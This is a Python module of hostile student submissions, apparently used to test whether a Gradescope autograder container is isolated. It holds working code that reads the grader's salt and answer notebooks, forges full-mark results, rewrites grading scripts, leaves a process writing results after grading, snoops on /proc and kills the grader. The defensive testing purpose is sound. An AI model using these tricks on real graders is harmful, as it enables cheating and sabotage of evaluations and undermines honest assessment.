"""Hostile submissions for a Gradescope container that refuses namespaces.

Every trick is code a student could submit, added to q1's honest wrong answer (no
1/√d_k). ``ROOT_PATH`` becomes the Gradescope root (``/autograder``), ``REPORT_PATH`` a
folder every user may write in, where each trick notes what it achieved
(``<trick>.json``, one JSON object per line), and ``HONEST`` the text of the solution
cell a trick replaces. A trick that finds nothing falls back to the honest answer, so
any point above the honest score is the trick's doing.

From the issue (the tricks seen on the old bundle): read ``source/salt`` and the source
notebooks, write ``results/results.json`` with full marks, kill the grader. Our own:
symlinks planted in /tmp and in the home towards ``results/`` and ``source/``;
appending to ``run_autograder``; editing ``source/config.json`` and the salt; a detached
process that keeps writing results after grading; importing the grader's reference from
the installed package; reading other processes' environments, descriptors and memory;
writing a forged digest to every inherited descriptor and guessed private folder.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Defined at the top of every trick: ``_report(trick, **what)`` appends to its report.
PRELUDE = '''
import json as _json, os as _os
def _report(_trick, **what):
    what.setdefault("uid", _os.getuid())
    try:
        with open(f"REPORT_PATH/{_trick}.json", "a") as _fh:
            _fh.write(_json.dumps(what, default=str) + "\\n")
    except OSError:
        pass
'''

#: A results.json giving every test of q1 full marks (17 points), as a student would forge it.
FORGED = '''
_FORGED = _json.dumps({"score": 17.0, "output": "forged by the student", "tests": [
    {"name": "all", "score": 17.0, "max_score": 17.0, "output": "forged"}]})
'''


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    #: A solution cell whose whole text the attack replaces (None: a new cell after imports).
    cell: str | None = None


def _attack(name: str, code: str, cell: str | None = None) -> Attack:
    return Attack(name, PRELUDE + FORGED + code, cell)


READ_SOURCE = _attack("read_source", '''
got = {}
for _name in ("salt", "config.json", "run_autograder", "setup.sh"):
    try:
        got[_name] = open(f"ROOT_PATH/source/{_name}").read()[:300]
    except OSError as e:
        got[_name] = f"refused {e.errno}"
try:
    got["listing"] = sorted(_os.listdir("ROOT_PATH/source"))
except OSError as e:
    got["listing"] = f"refused {e.errno}"
_report("read_source", **got)
''')

#: Replaces q1's attention cell: the grader's own answer if any route to it is open.
STEAL_ANSWERS = _attack("steal_answers", '''
import glob, sys, zipfile
routes = {}
code = None
for path in glob.glob("ROOT_PATH/source/**/*.ipynb", recursive=True):
    for cell in _json.load(open(path))["cells"]:
        text = "".join(cell["source"])
        if cell["cell_type"] == "code" and "def attention_weights" in text:
            code = text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
            routes["notebook"] = path
for wheel in glob.glob("ROOT_PATH/source/wheels/*.whl"):
    try:
        routes["wheel"] = len(zipfile.ZipFile(wheel).read("autograder/reference.py"))
    except (OSError, KeyError) as e:
        routes["wheel"] = f"refused {e}"
for name in [m for m in sys.modules if m == "autograder" or m.startswith("autograder.")]:
    del sys.modules[name]
try:
    from autograder.bank.lib.reference import attention as _ra, attention_weights as _rw
    routes["package"] = _ra.__module__
except Exception as e:
    _ra = _rw = None
    routes["package"] = f"refused {type(e).__name__}: {e}"
exec(code or HONEST, globals())
if code is None and _rw is not None:
    attention_weights, attention = _rw, _ra
_report("steal_answers", **routes)
''', cell="attention_impl")

WRITE_RESULTS = _attack("write_results", '''
got = {}
for target in ("ROOT_PATH/results/results.json", "ROOT_PATH/results/extra.json"):
    try:
        _os.makedirs(_os.path.dirname(target), exist_ok=True)
        with open(target, "w") as fh:
            fh.write(_FORGED)
        got[target] = "written"
    except OSError as e:
        got[target] = f"refused {e.errno}"
try:
    _os.rename("ROOT_PATH/results", "ROOT_PATH/results-old")
    _os.symlink(_os.getcwd(), "ROOT_PATH/results")
    got["swap"] = "results/ replaced by a link to the home"
except OSError as e:
    got["swap"] = f"refused {e.errno}"
_report("write_results", **got)
''')

PLANT_LINKS = _attack("plant_links", '''
got = {}
links = {"/tmp/results.json": "ROOT_PATH/results/results.json",
         "/tmp/gradescope-results.json": "ROOT_PATH/results/results.json",
         "/tmp/digest": "ROOT_PATH/results/results.json",
         "/tmp/salt": "ROOT_PATH/source/salt",
         _os.path.join(_os.getcwd(), "results.json"): "ROOT_PATH/results/results.json",
         _os.path.join(_os.getcwd(), "source"): "ROOT_PATH/source"}
for link, target in links.items():
    try:
        _os.symlink(target, link)
        got[link] = "planted"
    except OSError as e:
        got[link] = f"refused {e.errno}"
for link in links:
    try:
        with open(link, "w") as fh:
            fh.write(_FORGED)
        got[link + " written"] = True
    except OSError as e:
        got[link + " written"] = f"refused {e.errno}"
_report("plant_links", **got)
''')

REWRITE_SCRIPTS = _attack("rewrite_scripts", '''
got = {}
line = f"\\necho '{_FORGED}' > ROOT_PATH/results/results.json\\n"
for script in ("ROOT_PATH/run_autograder", "ROOT_PATH/source/run_autograder",
               "ROOT_PATH/source/setup.sh"):
    try:
        with open(script, "a") as fh:
            fh.write(line)
        got[script] = "appended"
    except OSError as e:
        got[script] = f"refused {e.errno}"
for name, text in (("config.json", '{"assignment": "q1_value_scaling", "timeout": 1}'),
                   ("salt", "student-chosen-salt\\n")):
    try:
        with open(f"ROOT_PATH/source/{name}", "w") as fh:
            fh.write(text)
        got[name] = "rewritten"
    except OSError as e:
        got[name] = f"refused {e.errno}"
_report("rewrite_scripts", **got)
''')

LINGER = _attack("linger", '''
import time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _report("linger", started=time.time())
        for _ in range(300):  # 30 s: well past the end of grading
            try:
                with open("ROOT_PATH/results/results.json", "w") as fh:
                    fh.write(_FORGED)
                _report("linger", wrote=time.time())
            except OSError:
                pass
            try:
                with open("REPORT_PATH/linger.beat", "a") as fh:
                    fh.write(f"{time.time()}\\n")
            except OSError:
                pass
            time.sleep(0.1)
    _os._exit(0)
''')

SNOOP = _attack("snoop", '''
got = {"environ": [], "fd": [], "mem": [], "uid": _os.getuid()}
for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        if int(open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[0]) == _os.getuid():
            continue  # its own processes
    except (OSError, IndexError):
        continue
    for what, read in (("environ", lambda: open(f"/proc/{pid}/environ", "rb").read(64)),
                       ("fd", lambda: _os.listdir(f"/proc/{pid}/fd")),
                       ("mem", lambda: open(f"/proc/{pid}/mem", "rb").read(1))):
        try:
            read()
            got[what].append(pid)
        except OSError:
            pass
_report("snoop", **got)
''')

FORGE_DIGEST = _attack("forge_digest", '''
import glob, hashlib, stat
digest = hashlib.sha256(_FORGED.encode()).hexdigest() + "\\n"
got = {"fds": [], "folders": []}
for fd in range(3, 256):
    try:
        mode = _os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode) or stat.S_ISFIFO(mode):
        try:
            _os.write(fd, digest.encode())
            got["fds"].append((fd, stat.filemode(mode), _os.fstat(fd).st_ino))
        except OSError:
            pass
for folder in glob.glob("/tmp/tmp.*") + glob.glob("/tmp/gradescope-*"):
    try:
        open(f"{folder}/results.json", "w").write(_FORGED)
        open(f"{folder}/digest", "w").write(digest)
        got["folders"].append(folder)
    except OSError:
        pass
_report("forge_digest", **got)
''')

#: The issue's attack on the old bundle, in one cell: the salt, full marks, the grader killed.
KILL_GRADER = _attack("kill_grader", '''
import signal
got = {"killed": [], "refused": []}
try:
    got["salt"] = open("ROOT_PATH/source/salt").read().strip()
except OSError as e:
    got["salt"] = f"refused {e.errno}"
try:
    with open("ROOT_PATH/results/results.json", "w") as fh:
        fh.write(_FORGED)
    got["results"] = "written"
except OSError as e:
    got["results"] = f"refused {e.errno}"
def _parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
# every ancestor up to run_autograder's shell: the reaper, the zygote, the grader, bash
# (only ancestors: never another grading on the same machine, nor whoever started bash)
targets, pid = [], _os.getpid()
while pid > 1:
    pid = _parent(pid)
    line = open(f"/proc/{pid}/cmdline", "rb").read()
    if not any(k in line for k in (b"gradescope.run", b"run_autograder", b"zygote")):
        break
    targets.append(pid)
for pid in targets:
    try:
        _os.kill(pid, signal.SIGKILL)
        got["killed"].append(pid)
    except OSError as e:
        got["refused"].append((pid, e.errno))
_report("kill_grader", **got)
''')

#: Together in one notebook (none of them stops grading); the killer goes alone.
QUIET = (READ_SOURCE, STEAL_ANSWERS, WRITE_RESULTS, PLANT_LINKS, REWRITE_SCRIPTS, LINGER,
         SNOOP, FORGE_DIGEST)
ATTACKS = (*QUIET, KILL_GRADER)
